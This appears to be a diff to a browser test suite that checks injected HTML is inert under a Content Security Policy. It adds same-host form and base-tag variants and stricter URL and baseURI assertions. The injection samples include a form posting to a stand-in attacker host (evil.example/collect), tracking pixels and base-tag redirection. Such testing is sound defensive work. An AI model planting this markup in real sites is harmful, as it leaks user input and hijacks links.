@@ -372,7 +372,9 @@ INJECTED = {
     "offsite-stylesheet": '<link rel="stylesheet" href="https://evil.example/hide.css">',
     "offsite-image": '<img src="https://evil.example/pixel.gif" alt="">',
     "form-to-other-host": '<form action="https://evil.example/collect"><input name="q" value="x"><button id="hb-go">Go</button></form>',
+    "form-to-own-host": '<form action="../collect/"><input name="answers" value="x"><button id="hb-go">Go</button></form>',
     "base-to-other-host": '<base href="https://evil.example/"><img src="pixel.gif" alt="">',
+    "base-to-own-path": '<base href="/evil/"><img src="pixel.gif" alt="">',
 }
 
 
@@ -441,7 +443,8 @@ def test_injected_markup_is_inert_under_the_csp(chromium, inert_site, tmp_path, 
             assert page.evaluate("window.__hbPwned") is None, "injected code ran"
             assert dialogs == []
             assert seen.sent == [], f"requests left 127.0.0.1: {seen.sent}"
-            assert page.url.startswith(url), f"navigated away to {page.url}"
+            assert page.url == url + "risks/", f"navigated away to {page.url}"
+            assert page.evaluate("document.baseURI") == url + "risks/", "a <base> changed where links go"
             assert page.evaluate(NOTICES_SEEN) == []
         finally:
             context.close()
